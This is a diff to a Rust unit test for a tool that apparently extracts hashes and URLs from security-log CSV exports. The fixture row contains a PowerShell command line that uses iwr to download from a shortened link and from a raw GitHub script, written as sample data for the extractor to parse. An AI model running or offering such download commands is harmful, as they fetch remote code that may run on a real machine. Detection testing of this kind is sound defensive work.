@@ -598,7 +598,8 @@ fn each_format_counts_the_lines_it_read() {
 fn an_exports_command_line_is_read_as_text_unless_columns_only() {
     let csv = format!(
         "Timestamp,DeviceId,SHA256,ProcessCommandLine,InitiatingProcessAccountName\n\
-         2026-11-30T01:00:00Z,{SHA1},{SHA256},\"powershell -c \"\"if ($h.Hash -eq '{OTHER}') {{ iwr https://bit.ly/3Xa9Qz7 }}\"\"\",UserPII_{SHA1}\n"
+         2026-11-30T01:00:00Z,{SHA1},{SHA256},\"powershell -c \"\"if ($h.Hash -eq '{OTHER}') {{ iwr https://bit.ly/3Xa9Qz7; \
+         iwr https://raw.githubusercontent.com/x/y/main/p.ps1 }}\"\"\",UserPII_{SHA1}\n"
     );
     let all = ReadOptions {
         kinds: Some(Kinds::ALL),
@@ -608,8 +609,10 @@ fn an_exports_command_line_is_read_as_text_unless_columns_only() {
     let found: Vec<String> = hashes(&items).into_iter().map(|(h, _)| h).collect();
     assert_eq!(found, [SHA256, OTHER]);
     assert_eq!(
-        report.from_text_columns, 2,
-        "the hash and the URL: {report:?}"
+        // A URL on a reference site is what the command fetched, not a source.
+        report.from_text_columns,
+        3,
+        "the hash and two URLs: {report:?}"
     );
     assert_eq!(
         report.text_columns,
